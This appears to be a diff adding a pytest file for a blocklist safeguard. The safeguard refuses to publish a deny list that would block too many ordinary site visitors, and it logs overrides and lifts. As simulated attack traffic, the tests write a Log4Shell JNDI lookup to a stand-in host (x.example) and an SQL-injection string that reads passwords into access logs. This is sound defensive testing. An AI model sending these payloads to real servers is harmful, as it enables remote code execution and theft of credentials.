@@ -1,0 +1,182 @@
+"""A list that would hit too many people is not published, and what was published stays."""
+
+import json
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from plugins.blocklist.breaker import publish_anyway, refusal
+from plugins.blocklist.by_hand import lift
+from plugins.blocklist.decisions import Decisions
+from plugins.blocklist.exporting import publish_exports, published
+from plugins.steps.watching import find_troubles
+from schemas.refusals import RefusedError
+from tests.plugins.blocklist.blocklists import MALLORY, NOON, OPEN, TRUDY, attack, ban_by_hand, detect_on, export
+from tests.stores import Site, hit
+
+A_DAY, HOUR, MINUTE = timedelta(days=1), timedelta(hours=1), timedelta(minutes=1)
+CROWD = "198.51.100.{}"
+YESTERDAY = NOON - A_DAY
+
+
+def visited(folder: Path, people: int = 100, policy: str = OPEN, with_parts: bool = True) -> Site:
+    """A site that so many people visited yesterday, each with an address of their own, and that Mallory attacks."""
+    site = Site(folder, NOON, policy)
+    for n in range(people):
+        address, moment = CROWD.format(n), YESTERDAY + n * timedelta(seconds=1)
+        site.write("access.log", hit(moment, address, "/"))
+        if with_parts:
+            site.write("access.log", hit(moment, address, "/style.css"))
+    attack(site, NOON - 5 * MINUTE)
+    detect_on(site)
+    publish_exports(site.open())
+    return site
+
+
+def blocked(site: Site) -> set[str]:
+    return {one.target for one in published(site.open(), site.now)}
+
+
+def probe_like_people(site: Site, people: int, address: str = CROWD) -> None:
+    """Today a scenario takes so many of them for attackers."""
+    for n in range(people):
+        site.write("access.log", hit(NOON - MINUTE, address.format(n), "/?x=${jndi:ldap://x.example/a}"))
+    site.ingest()
+    detect_on(site)
+    publish_exports(site.open())
+
+
+def test_a_list_that_hits_attackers_is_published(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    assert blocked(site) == {MALLORY}
+    assert refusal(site.open()) is None
+
+
+def test_a_list_that_hits_too_many_people_is_refused_and_the_one_before_stays(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    probe_like_people(site, 10)
+    assert len(Decisions(site.open()).active(site.now)) == 11
+    assert blocked(site) == {MALLORY}
+    assert [line.split(";")[0] for line in export(site).splitlines()[1:]] == [f"deny {MALLORY}"]
+    said = refusal(site.open())
+    assert said
+    assert "10 of 100 people" in said
+    assert "10.0%" in said
+    assert "by log4shell" in said
+    assert "198.51" not in said
+    assert said in find_troubles(site.open())
+
+
+def test_up_to_three_people_are_no_crowd(tmp_path: Path) -> None:
+    site = visited(tmp_path, people=20)
+    probe_like_people(site, 3)
+    assert len(blocked(site)) == 4
+    attack(site, NOON, address=CROWD.format(3))
+    detect_on(site)
+    assert len(blocked(site)) == 4
+
+
+def test_the_share_is_the_policys_and_1_turns_it_off(tmp_path: Path) -> None:
+    for share, count in ((0.2, 11), (1, 11), (0.05, 1)):
+        site = visited(tmp_path / str(share), policy=OPEN + f"most_people = {float(share)}\n")
+        probe_like_people(site, 10)
+        assert len(blocked(site)) == count
+
+
+def test_whom_two_scenarios_found_is_no_person(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    sql = "/?id={}+union+select+1,password+from+users--"
+    site.write("access.log", *(hit(NOON - MINUTE, CROWD.format(n % 10), sql.format(n)) for n in range(90)))
+    probe_like_people(site, 10)
+    assert len(blocked(site)) == 11
+
+
+def test_tools_that_load_no_parts_of_pages_are_no_people(tmp_path: Path) -> None:
+    site = visited(tmp_path, people=20)
+    site.write("access.log", *(hit(YESTERDAY, f"203.0.113.{n}", "/") for n in range(10)))
+    probe_like_people(site, 10, "203.0.113.{}")
+    assert len(blocked(site)) == 11
+
+
+def test_where_no_parts_are_in_the_log_everybody_who_saw_a_page_counts(tmp_path: Path) -> None:
+    site = visited(tmp_path, with_parts=False)
+    probe_like_people(site, 10)
+    assert blocked(site) == {MALLORY}
+
+
+def test_a_ban_by_hand_on_a_crowd_is_kept_and_not_published(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    with pytest.raises(RefusedError, match="the new blocklist is not published: it would hit 100 of 100 people"):
+        ban_by_hand(site, "198.51.100.0/24")
+    assert blocked(site) == {MALLORY}
+
+
+def test_lifting_what_hits_people_lets_the_rest_through(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    attack(site, NOON, address=TRUDY)
+    probe_like_people(site, 10)
+    wrong = [one.decision for one in Decisions(site.open()).active(NOON) if one.target.startswith("198.51.")]
+    lift(site.open(), wrong, "they are readers", "security")
+    assert blocked(site) == {MALLORY, TRUDY}
+    assert refusal(site.open()) is None
+
+
+def test_to_simulate_the_scenario_ends_its_bans(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    probe_like_people(site, 10)
+    site.policy.write_text(OPEN + 'simulate = ["log4shell"]\n')
+    assert blocked(site) == set()
+    assert refusal(site.open()) is None
+    assert {one.lifted_by for one in Decisions(site.open()).all()} == {"policy"}
+
+
+def test_a_lift_holds_though_the_newest_list_is_refused(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    probe_like_people(site, 10)
+    (mallory,) = published(site.open(), site.now)
+    lift(site.open(), [mallory.decision], "our own scanner", "security")
+    assert export(site).splitlines()[1:] == []
+
+
+def test_a_person_lets_a_list_through_with_a_reason_in_the_trail_and_not_what_follows(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    probe_like_people(site, 10)
+    assert publish_anyway(site.open(), "they are attackers indeed", "operations") == 11
+    assert len(blocked(site)) == 11
+    place = site.open().place("audit")
+    entries = [json.loads(line) for name in place.names() for line in place.get(name).splitlines()]
+    (entry,) = [one for one in entries if one["action"] == "publish anyway"]
+    assert entry["facts"] == {"reason": "they are attackers indeed", "decisions": 11}
+    probe_like_people(site, 12)
+    assert len(blocked(site)) == 13, "two more alone are no crowd"
+    probe_like_people(site, 30)
+    assert len(blocked(site)) == 13
+    said = refusal(site.open())
+    assert said
+    assert "20 of 100" in said
+
+
+def test_a_list_is_judged_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    site = visited(tmp_path)
+    probe_like_people(site, 10)
+
+    def refuse(*_: object) -> None:
+        raise AssertionError("the hits are read again")
+
+    monkeypatch.setattr("plugins.blocklist.breaker.load_day", refuse)
+    publish_exports(site.open())
+    site.now += timedelta(seconds=30)
+    assert blocked(site) == {MALLORY}
+
+
+def test_a_day_that_cannot_be_read_is_passed_over_for_an_older_one(tmp_path: Path) -> None:
+    site = visited(tmp_path)
+    site.write("access.log", *(hit(YESTERDAY - A_DAY, CROWD.format(n)) for n in range(10)))
+    site.ingest()
+    for path in (site.folder / "store" / "window" / str(YESTERDAY.date())).rglob("hits/**/*.parquet"):
+        path.unlink()
+    probe_like_people(site, 10)
+    said = refusal(site.open())
+    assert said
+    assert "10 of 10 people of 2026-11-18" in said
